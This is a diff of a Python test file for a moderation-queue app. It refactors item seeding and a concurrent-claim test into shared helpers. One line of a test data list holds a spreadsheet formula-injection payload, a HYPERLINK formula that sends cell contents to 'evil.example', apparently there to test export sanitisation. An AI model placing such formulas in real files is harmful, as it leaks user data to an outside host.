@@ -8,7 +8,6 @@ import csv
 import io
 import json
 import random
-import threading
 from collections.abc import Callable
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -17,17 +16,15 @@ from typing import Any
 from click.testing import CliRunner
 from sqlalchemy import func, select, update
 
-from collectors.pipeline import Enricher
-from collectors.runner import sync_sources
-from collectors.store import store_batch
 from collectors.types import RawPost
 from config.settings import Settings
 from models import actions
 from models.audit import check_chain, iter_events, rebuild_history, verify_chains
 from models.db import Database
 from models.sla import SlaClock
-from models.tables import AuditEvent, QueueItem, SourceRow, utcnow
+from models.tables import AuditEvent, QueueItem
 from models.users import add_user, set_active
+from tests.kit import claim_at_once, seed_items
 from vigie.cli_audit import audit
 
 SEED = 20240501
@@ -51,18 +48,13 @@ REASONS = ["customer called back", '=HYPERLINK("http://evil.example/?x="&A1,"ope
 
 
 def _seed_items(db: Database, settings: Settings, per_team: int) -> list[int]:
-    sync_sources(db, settings)
     now = datetime.now(UTC)
     posts = [RawPost(f"{team}-{i}", "x", text.format(i=i), now - timedelta(minutes=i), None, f"@author{team}{i}",
                      f"Author {i}", 10 * i)
              for team, text in TEXTS.items() for i in range(per_team)]
-    with db.write.begin() as s:
-        sid = s.scalars(select(SourceRow.id).where(SourceRow.name == "demo")).one()
-        enricher = Enricher(settings)
-        store_batch(s, sid, [enricher.enrich(p, utcnow()) for p in posts], None)
+    ids = seed_items(db, settings, posts)
     with db.read() as s:
         teams = dict(s.execute(select(QueueItem.team, func.count()).group_by(QueueItem.team)).all())
-        ids = list(s.scalars(select(QueueItem.id).order_by(QueueItem.id)))
     assert teams == {team: per_team for team in TEXTS}, teams
     return ids
 
@@ -113,23 +105,7 @@ def _script(rng: random.Random, item_ids: list[int], clock: SlaClock) -> tuple[s
 
 def _concurrent_claims(db: Database, item_id: int) -> tuple[int, int]:
     """Two agents claim the same new item at once: (wins, refusals)."""
-    barrier = threading.Barrier(2)
-    outcomes: list[str] = []
-
-    def agent(name: str) -> None:
-        barrier.wait()
-        try:
-            with db.write.begin() as s:
-                actions.claim(s, item_id, name)
-            outcomes.append("won")
-        except actions.ActionError as exc:
-            outcomes.append(str(exc))
-
-    threads = [threading.Thread(target=agent, args=(name,)) for name in ("cs.ann", "cs.bob")]
-    for t in threads:
-        t.start()
-    for t in threads:
-        t.join()
+    outcomes = ["won" if o.startswith("won:") else o for o in claim_at_once(db, item_id, ["cs.ann", "cs.bob"])]
     assert outcomes.count("won") == 1, outcomes
     assert [o for o in outcomes if o != "won"][0].startswith(f"item {item_id} is already claimed by cs.")
     return 1, 1
